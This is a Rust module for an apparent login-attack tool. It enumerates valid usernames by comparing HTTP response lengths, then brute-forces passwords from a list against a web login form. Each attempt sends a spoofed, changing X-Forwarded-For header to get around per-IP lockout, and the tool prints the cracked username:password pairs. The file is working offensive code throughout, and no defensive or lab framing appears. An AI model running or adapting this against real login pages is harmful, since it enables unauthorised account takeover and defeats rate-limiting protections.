use anyhow::{Context, Result};
use regex::Regex;
use reqwest::blocking::Client;
use std::collections::{BTreeMap, HashMap};
use std::sync::LazyLock;
use std::time::Duration;
use tracing::debug;

use crate::config::ProbeConfig;
use crate::ui;

static TAG_PATTERN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"<.*?>").expect("tag pattern is valid"));

/// Discovered password per valid username; empty when none matched
pub type Credentials = BTreeMap<String, String>;

#[derive(Debug, Clone, Default)]
pub struct LoginResponse {
    pub body: Vec<u8>,
}

impl LoginResponse {
    #[must_use]
    pub fn len(&self) -> usize {
        self.body.len()
    }

    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.body.is_empty()
    }

    #[must_use]
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// A login form that can be submitted
pub trait LoginTarget {
    fn login(
        &self,
        username: &str,
        password: &str,
        forwarded_for: Option<&str>,
    ) -> Result<LoginResponse>;
}

#[derive(Debug)]
pub struct HttpLoginTarget {
    client: Client,
    url: String,
}

impl HttpLoginTarget {
    pub fn new(url: &str) -> Result<Self> {
        let client = Client::builder()
            .timeout(Duration::from_secs(30))
            .build()
            .context("Failed to build HTTP client")?;

        Ok(Self {
            client,
            url: url.to_string(),
        })
    }
}

impl LoginTarget for HttpLoginTarget {
    fn login(
        &self,
        username: &str,
        password: &str,
        forwarded_for: Option<&str>,
    ) -> Result<LoginResponse> {
        let mut request = self
            .client
            .post(&self.url)
            .form(&[("username", username), ("password", password)]);

        if let Some(ip) = forwarded_for {
            request = request.header("X-Forwarded-For", ip);
        }

        let response = request
            .send()
            .with_context(|| format!("Login request for '{username}' failed"))?;
        let body = response
            .bytes()
            .with_context(|| format!("Failed to read login response for '{username}'"))?;

        Ok(LoginResponse {
            body: body.to_vec(),
        })
    }
}

/// Strip tags and collapse whitespace runs into single spaces
#[must_use]
pub fn clean_response(html: &str) -> String {
    TAG_PATTERN
        .replace_all(html, "")
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

/// Find a username whose login response length differs from the known
/// invalid length.
///
/// Returns as soon as the first one is found, so later usernames are never
/// tried.
pub fn enumerate_usernames<T: LoginTarget>(
    target: &T,
    usernames: &[String],
    config: &ProbeConfig,
) -> Result<Vec<String>> {
    let mut valid = Vec::new();

    for username in usernames {
        for _ in 0..config.attempts_per_username {
            let response = target.login(username, &config.placeholder_password, None)?;
            println!("User: {username}\tResponse length: {}", response.len());

            if response.len() != config.invalid_length {
                valid.push(username.clone());
                ui::print_success(&format!("\nValid Username: {}", valid.join(",")));
                return Ok(valid);
            }
        }
    }

    ui::print_info(&format!("\nValid Usernames: {}", valid.join(",")));
    Ok(valid)
}

/// Try passwords in order for each username until one produces a page
/// without any failure pattern.
///
/// Each attempt carries `X-Forwarded-For: <n>`, `n` being the 1-based
/// position of the password's first occurrence in the list.
pub fn crack_passwords<T: LoginTarget>(
    target: &T,
    usernames: &[String],
    passwords: &[String],
    failure_patterns: &[String],
) -> Result<Credentials> {
    let mut credentials: Credentials = usernames
        .iter()
        .map(|u| (u.clone(), String::new()))
        .collect();

    let mut first_seen: HashMap<&str, usize> = HashMap::new();
    for (index, password) in passwords.iter().enumerate() {
        first_seen.entry(password.as_str()).or_insert(index);
    }

    for username in usernames {
        for password in passwords {
            let forwarded_for = (first_seen[password.as_str()] + 1).to_string();
            let response = target.login(username, password, Some(&forwarded_for))?;
            println!(
                "Validating password: {password}\tUser: {username}\tResponse length: {}",
                response.len()
            );

            let cleaned = clean_response(&response.text());
            if failure_patterns.iter().all(|p| !cleaned.contains(p.as_str())) {
                debug!(username = username.as_str(), "password accepted");
                credentials.insert(username.clone(), password.clone());
                break;
            }
        }
    }

    Ok(credentials)
}

/// Print each discovered credential
pub fn print_credentials(credentials: &Credentials) {
    for (username, password) in credentials {
        ui::print_success(&format!("\n[*] {username}:{password}"));
    }
}
